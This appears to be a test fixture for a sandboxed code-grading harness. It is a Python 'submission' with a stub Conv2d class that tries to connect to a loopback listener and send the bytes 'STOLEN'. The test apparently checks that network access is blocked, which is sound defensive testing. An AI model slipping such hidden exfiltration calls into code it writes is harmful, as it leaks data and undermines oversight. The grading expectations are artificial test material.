# expect: max_score=0
# expect: bwrap_no_network
# Connects to a listener on loopback (the test starts one and puts its port in the source).
import socket

PORT = {PORT}
for host in ("127.0.0.1", "localhost"):
    try:
        s = socket.create_connection((host, PORT), timeout=2)
        s.sendall(b"STOLEN")
        s.close()
    except OSError:
        pass


class Conv2d:
    def __init__(self, *a, **k):
        pass
